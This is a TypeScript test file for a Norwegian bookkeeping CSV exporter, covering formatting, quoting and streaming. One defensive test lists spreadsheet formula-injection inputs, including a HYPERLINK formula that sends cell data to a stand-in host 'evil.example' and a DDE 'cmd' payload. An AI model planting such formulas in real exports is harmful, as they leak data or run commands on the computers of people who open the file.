import { amount, plainDate, type Amount, type PlainDate } from '@bilag/core';
import { expect, test } from 'vitest';
import { amountColumn, countColumn, dateColumn, percentColumn, textColumn, timeColumn } from '../src/tables/column.ts';
import { csvOf, type CsvOptions } from '../src/tables/csv.ts';

interface Row {
  readonly name: string;
  readonly value: Amount;
  readonly date?: PlainDate;
}

const columns = [
  textColumn<Row>('Navn', ({ name }) => name),
  dateColumn<Row>('Dato', ({ date }) => date),
  amountColumn<Row>('Beløp', ({ value }) => value),
];

async function csv(rows: Iterable<Row> | AsyncIterable<Row>, options: Partial<CsvOptions> = {}): Promise<string> {
  const chunks = await Array.fromAsync(csvOf(columns, rows, { language: 'nb', currency: 'NOK', ...options }));
  return chunks.join('');
}

test('a Norwegian spreadsheet opens it: its mark, semicolons, a decimal comma, and the currency in the heading', async () => {
  const rows = [{ name: 'Kafé; ved "torget"', value: amount(-123_450), date: plainDate('2026-07-01') }];
  expect(await csv(rows)).toBe('\uFEFFNavn;Dato;Beløp (NOK)\r\n"Kafé; ved ""torget""";2026-07-01;-1234,50\r\n');
});

test('in English it has commas and a point, and amounts have the decimals of their currency', async () => {
  const rows = [{ name: 'Café', value: amount(1_234) }];
  expect(await csv(rows, { language: 'en', currency: 'ISK' })).toBe('\uFEFFNavn,Dato,Beløp (ISK)\r\nCafé,,1234\r\n');
});

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1+1',
  '=HYPERLINK("http://evil.example?"&A1,"klikk")',
  "=cmd|' /C calc'!A0",
])('the text %j becomes no formula', async (name) => {
  const [, line = ''] = (await csv([{ name, value: amount(1) }])).split('\r\n', 2);
  const field = /^"((?:[^"]|"")*)"/.exec(line)?.[1] ?? line.split(';')[0] ?? '';
  expect(field.startsWith("'")).toBe(true);
});

test('an amount below nought stays a number', async () => {
  expect(await csv([{ name: 'x', value: amount(-5) }])).toContain(';-0,05\r\n');
});

test('counts, rates and times are written as a program reads them', async () => {
  const told = [
    countColumn<number>('Antall', (row) => row),
    percentColumn<number>('Sats', () => 1_250),
    timeColumn<number>('Tid', () => Date.parse('2026-07-01T10:00:00Z')),
  ];
  const chunks = await Array.fromAsync(csvOf(told, [1_234], { language: 'nb', currency: 'NOK' }));
  expect(chunks.join('')).toBe('\uFEFFAntall;Sats;Tid\r\n1234;12,5;2026-07-01T10:00:00.000Z\r\n');
});

test('a hundred thousand rows are sent as they come, and never lie in memory together', async () => {
  let read = 0;
  function* rows(): Generator<Row> {
    for (; read < 100_000; read += 1) yield { name: `rad ${read}`, value: amount(read) };
  }
  const sent: number[] = [];
  let lines = 0;
  for await (const chunk of csvOf(columns, rows(), { language: 'nb', currency: 'NOK' })) {
    sent.push(read);
    lines += chunk.split('\r\n').length - 1;
  }
  expect(lines).toBe(100_001);
  expect(sent[0]).toBeLessThan(10_000);
  expect(sent.length).toBeGreaterThan(10);
});
